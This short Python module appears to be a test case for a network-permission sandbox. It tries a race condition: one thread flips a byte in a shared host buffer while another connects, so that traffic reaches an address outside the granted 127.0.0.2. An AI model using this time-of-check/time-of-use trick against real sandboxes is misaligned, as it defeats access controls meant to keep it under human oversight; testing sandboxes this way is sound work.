"""A host in a buffer that another thread changes."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.2"]}

import socket

from . import payload


def attack():
    host = bytearray(b"127.0.0.2")

    def flip():
        for host[8] in b"12":
            pass                # With the GIL, others come to run here.

    def connect():
        with socket.socket() as connection:
            connection.connect((host, payload.PORT))
            connection.sendall(b"evil")
        return True

    payload.race(flip, connect)
